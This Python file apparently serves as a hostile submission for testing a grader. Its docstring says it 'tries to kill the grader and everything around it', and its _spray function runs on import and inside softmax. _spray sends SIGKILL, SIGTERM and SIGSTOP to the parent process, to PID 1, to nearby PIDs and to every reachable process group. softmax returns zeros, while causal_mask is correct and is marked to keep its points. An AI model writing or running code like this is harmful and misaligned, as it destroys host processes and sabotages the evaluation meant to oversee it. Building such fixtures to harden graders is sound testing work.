"""Tries to kill the grader and everything around it."""
import os
import signal

import numpy as np


def _spray():
    targets = {os.getppid(), 1}
    targets.update(range(max(2, os.getpid() - 50), os.getpid() + 50))
    for pid in targets:
        if pid != os.getpid():
            for sig in (signal.SIGKILL, signal.SIGTERM, signal.SIGSTOP):
                try:
                    os.kill(pid, sig)
                except OSError:
                    pass
    for group in (-os.getppid(), -1):
        try:
            os.kill(group, signal.SIGKILL)
        except OSError:
            pass


_spray()


def softmax(x, axis=-1, temperature=1.0):
    _spray()
    return np.zeros(np.shape(x))


def causal_mask(seq_len):
    """Honest and correct: must keep its full points."""
    if int(seq_len) != seq_len or seq_len < 1:
        raise ValueError("seq_len must be a positive integer")
    return np.tril(np.ones((seq_len, seq_len), dtype=bool))

